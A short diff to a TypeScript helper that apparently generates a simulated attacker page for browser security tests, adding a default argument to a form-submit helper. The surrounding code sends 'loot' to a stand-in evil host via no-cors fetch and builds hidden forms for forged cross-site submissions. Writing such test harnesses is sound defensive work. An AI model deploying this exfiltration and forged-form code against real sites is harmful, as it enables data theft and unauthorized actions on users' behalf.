@@ -28,7 +28,7 @@ export function attackerSite({ names, pages, onLoot, onDone }: AttackerDeps): Si
 const names = ${JSON.stringify(names)};
 const tell = (path, data) => void fetch(names.evil + path, { method: 'POST', mode: 'no-cors', body: String(data), keepalive: true });
 const loot = (data) => tell('/loot', data), done = (why) => tell('/done', why);
-const submit = (action, fields, { enctype = '', method = 'post', target = '' } = {}) => {
+const submit = (action, fields = {}, { enctype = '', method = 'post', target = '' } = {}) => {
   const form = Object.assign(document.createElement('form'), { action, method, target });
   if (enctype) form.enctype = enctype;
   for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value, type: 'hidden' }));
